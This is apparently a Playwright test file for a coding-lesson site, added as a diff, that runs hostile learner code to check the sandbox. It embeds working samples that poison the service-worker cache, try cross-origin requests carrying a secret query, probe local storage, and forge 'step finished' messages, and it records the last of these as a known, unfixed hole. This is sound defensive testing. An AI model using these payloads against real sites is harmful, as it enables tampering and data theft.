@@ -1,0 +1,256 @@
+import { createServer, type Server } from 'node:http';
+import { expect, test, type Page } from '@playwright/test';
+import { check, JS_ANSWERS, MINI_PROJECT_URL, openMiniProject, step, typeCode } from './student.ts';
+
+/**
+ * Learner code is hostile (issue 11): pasted into a step and run, it must not be able to change
+ * what the site serves, read the site's storage, or reach another origin. Each test pastes an
+ * attack as a student would, presses Run, and then looks at the site as a student sees it.
+ * The attacks report back by fetching /attack-report?… on the site's own origin (allowed),
+ * which the test waits for instead of sleeping.
+ */
+test.describe.configure({ timeout: 300_000 });
+
+/** Generous: on a loaded machine Monaco alone can take 20 s to appear. */
+const SLOW = { timeout: 120_000 };
+
+const POISON = 'document.title = "pwned"; document.documentElement.dataset.pwned = "yes";';
+const OTHER_ORIGIN_PORT = Number(process.env.STEPWISE_OTHER_PORT ?? 4447);
+const OTHER_ORIGIN = `http://127.0.0.1:${OTHER_ORIGIN_PORT}`;
+
+/** The report an attack sends to /attack-report?…, as its query parameters. */
+async function attackReport(page: Page, run: () => Promise<void>): Promise<URLSearchParams> {
+  const report = page.waitForRequest((request) => request.url().includes('/attack-report?'), { timeout: 200_000 });
+  await run();
+  return new URL((await report).url()).searchParams;
+}
+
+async function enterCode(page: Page, number: number, code: string): Promise<void> {
+  const section = step(page, number);
+  await section.scrollIntoViewIfNeeded();
+  await expect(section).toHaveAttribute('data-editor-ready', '', SLOW);
+  await typeCode(page, section, code);
+}
+
+async function runStep(page: Page, number: number, code: string): Promise<void> {
+  await enterCode(page, number, code);
+  const section = step(page, number);
+  await section.getByRole('button', { name: 'Run' }).click();
+}
+
+/** Waits until the offline service worker controls the page and has cached `path`. */
+async function offlineCacheHolds(page: Page, path: string): Promise<void> {
+  await expect.poll(() => page.evaluate(() => Boolean(navigator.serviceWorker.controller)), SLOW).toBe(true);
+  await expect.poll(() => page.evaluate(async (url) => Boolean(await caches.match(url)), path), SLOW).toBe(true);
+}
+
+/** The page's own module script, a real built asset under /_astro/. */
+const exerciseScript = (page: Page): Promise<string> =>
+  page.locator('script[type="module"][src*="/_astro/"]').first().evaluate((script) => new URL((script as HTMLScriptElement).src).pathname);
+
+/** What the site serves for `path` now, as the page's own fetch sees it (through the service worker). */
+const served = (page: Page, path: string): Promise<string> => page.evaluate(async (url) => (await fetch(url)).text(), path);
+
+async function expectSiteUnharmed(page: Page, asset: string, language: 'javascript' | 'python'): Promise<void> {
+  await page.reload();
+  await expect(page).toHaveTitle(/Mini project/);
+  expect(await page.evaluate(() => document.documentElement.dataset.pwned)).toBeUndefined();
+  expect(await served(page, asset)).not.toContain('pwned');
+  // The page still works as it should: the student can check a step.
+  if (language === 'javascript') await page.getByLabel('Language').selectOption('javascript');
+  await enterCode(page, 2, language === 'javascript' ? JS_ANSWERS[1]! : "segment_categories = ['Books', 'Electronics', 'Clothing']");
+  await step(page, 2).getByRole('button', { name: 'Check', exact: true }).click();
+  await expect(step(page, 2).getByRole('status')).toHaveText('Correct! Step 2 is done.', SLOW);
+  await expect(page).toHaveTitle(/Mini project/);
+}
+
+test.describe('the offline cache', () => {
+  test('JavaScript that rewrites the cached site scripts changes nothing the site serves', async ({ page }) => {
+    await openMiniProject(page);
+    const asset = await exerciseScript(page);
+    await offlineCacheHolds(page, asset);
+    const report = await attackReport(page, () =>
+      runStep(
+        page,
+        1,
+        `const customers = [];
+(async () => {
+  let poisoned = 0;
+  for (const name of await caches.keys()) {
+    const cache = await caches.open(name);
+    for (const request of await cache.keys()) {
+      if (!request.url.endsWith('.js') && !request.url.endsWith('/')) continue;
+      const body = request.url.endsWith('/') ? '<title>pwned</title><script>${POISON}</script>' : '${POISON}';
+      await cache.put(request, new Response(body, { headers: { 'Content-Type': request.url.endsWith('/') ? 'text/html' : 'text/javascript' } }));
+      poisoned += 1;
+    }
+  }
+  await fetch('/attack-report?poisoned=' + poisoned);
+})();`,
+      ),
+    );
+    expect(Number(report.get('poisoned'))).toBeGreaterThan(0);
+    await expectSiteUnharmed(page, asset, 'javascript');
+  });
+
+  test('Python that rewrites the cached site scripts through `import js` changes nothing the site serves', async ({ page }) => {
+    await page.goto(MINI_PROJECT_URL);
+    const asset = await exerciseScript(page);
+    await offlineCacheHolds(page, asset);
+    const report = await attackReport(page, () =>
+      runStep(
+        page,
+        1,
+        `import asyncio
+import js
+
+async def poison():
+    poisoned = 0
+    for name in await js.caches.keys():
+        cache = await js.caches.open(name)
+        for request in await cache.keys():
+            if request.url.endswith('.js'):
+                await cache.put(request, js.Response.new('${POISON.replace(/"/g, '\\"')}'))
+                poisoned += 1
+    await js.fetch(f'/attack-report?poisoned={poisoned}')
+
+asyncio.ensure_future(poison())
+customers = []`,
+      ),
+    );
+    expect(Number(report.get('poisoned'))).toBeGreaterThan(0);
+    await expectSiteUnharmed(page, asset, 'python');
+  });
+});
+
+test.describe('another origin', () => {
+  let server: Server;
+  const received: string[] = [];
+  test.beforeAll(async () => {
+    server = createServer((request, response) => {
+      received.push(`${request.method} ${request.url}`);
+      response.setHeader('Access-Control-Allow-Origin', '*');
+      response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
+      response.end('export default 1;');
+    });
+    await new Promise<void>((resolve) => server.listen(OTHER_ORIGIN_PORT, '127.0.0.1', resolve));
+  });
+  test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+  test.beforeEach(() => void received.splice(0));
+
+  test('receives nothing from learner JavaScript: fetch, XHR, import, WebSocket, EventSource, beacon', async ({ page }) => {
+    await openMiniProject(page);
+    const report = await attackReport(page, () =>
+      runStep(
+        page,
+        1,
+        `const customers = [];
+const target = '${OTHER_ORIGIN}';
+const outcome = (promise) => promise.then(() => 'reached', () => 'blocked');
+const opened = (make) => new Promise((resolve, reject) => {
+  try { const socket = make(); socket.onopen = resolve; socket.onerror = reject; } catch (error) { reject(error); }
+});
+const xhr = new XMLHttpRequest();
+let syncXhr = 'reached';
+try { xhr.open('GET', target + '/sync-xhr', false); xhr.send(); } catch { syncXhr = 'blocked'; }
+Promise.all([
+  outcome(fetch(target + '/fetch?secret=1')),
+  outcome(fetch(target + '/no-cors', { mode: 'no-cors' })),
+  outcome(import(target + '/import.js')),
+  outcome(opened(() => new WebSocket('ws://127.0.0.1:${OTHER_ORIGIN_PORT}/socket'))),
+  outcome(opened(() => new EventSource(target + '/events'))),
+]).then((results) => fetch('/attack-report?' + new URLSearchParams({ results: [syncXhr, ...results].join(',') })));`,
+      ),
+    );
+    expect(report.get('results')).toBe('blocked,blocked,blocked,blocked,blocked,blocked');
+    expect(received).toEqual([]);
+  });
+
+  test('receives nothing from learner Python: js.fetch and pyodide.http', async ({ page }) => {
+    await page.goto(MINI_PROJECT_URL);
+    const report = await attackReport(page, () =>
+      runStep(
+        page,
+        1,
+        `import asyncio
+import js
+from pyodide.http import open_url, pyfetch
+
+outcomes = []
+try:
+    open_url('${OTHER_ORIGIN}/open-url')
+    outcomes.append('reached')
+except Exception:
+    outcomes.append('blocked')
+
+async def reach():
+    for attempt in (lambda: js.fetch('${OTHER_ORIGIN}/js-fetch'), lambda: pyfetch('${OTHER_ORIGIN}/pyfetch')):
+        try:
+            await attempt()
+            outcomes.append('reached')
+        except Exception:
+            outcomes.append('blocked')
+    await js.fetch('/attack-report?results=' + ','.join(outcomes))
+
+asyncio.ensure_future(reach())
+customers = []`,
+      ),
+    );
+    expect(report.get('results')).toBe('blocked,blocked,blocked');
+    expect(received).toEqual([]);
+  });
+});
+
+test("learner code finds none of the site's storage", async ({ page }) => {
+  await openMiniProject(page);
+  // The site keeps this student's progress on the device.
+  const first = step(page, 1);
+  await enterCode(page, 1, JS_ANSWERS[0]!);
+  await expect(await check(first)).toHaveText('Correct! Step 1 is done.');
+  expect(await page.evaluate(() => Object.keys(localStorage).length)).toBeGreaterThan(0);
+
+  const report = await attackReport(page, () =>
+    runStep(
+      page,
+      2,
+      `const segment_categories = [];
+const found = {
+  localStorage: typeof localStorage,
+  sessionStorage: typeof sessionStorage,
+  document: typeof document,
+};
+indexedDB.databases().then((databases) => {
+  found.databases = databases.map((database) => database.name).join(' ');
+  return fetch('/attack-report?' + new URLSearchParams(found));
+});`,
+    ),
+  );
+  expect(Object.fromEntries(report)).toEqual({ localStorage: 'undefined', sessionStorage: 'undefined', document: 'undefined', databases: '' });
+});
+
+test('a forged "step finished" message from learner code does not pass a step', async ({ page }) => {
+  // Known to fail: the page trusts any message from the runner worker, and learner code can
+  // post to it. Reported to the owner of the runner protocol (src/lib/runner); remove this
+  // line when the host tells forged messages from its own.
+  test.fail();
+  await openMiniProject(page);
+  const first = step(page, 1);
+  // Posts a passing result for every run id the page may use, then stops short of defining anything.
+  await enterCode(
+    page,
+    1,
+    `const values = { customers: [
+  { name: 'Alice', category: 'Books' }, { name: 'Bob', category: 'Electronics' }, { name: 'Charlie', category: 'Books' },
+  { name: 'Diana', category: 'Clothing' }, { name: 'Ethan', category: 'Electronics' },
+] };
+for (let runId = 0; runId < 50; runId++) {
+  const result = { id: 'step-1', status: 'ok', output: '', truncated: false, values, unreadable: {}, defined: ['customers'], features: { loop: false } };
+  postMessage({ type: 'step-finished', runId, index: 0, result });
+  postMessage({ type: 'done', runId });
+}
+throw new Error('nothing defined here');`,
+  );
+  const status = await check(first);
+  await expect(status).toContainText('Not yet');
+  await expect(page.getByText('0 / 4 steps')).toBeVisible();
+});
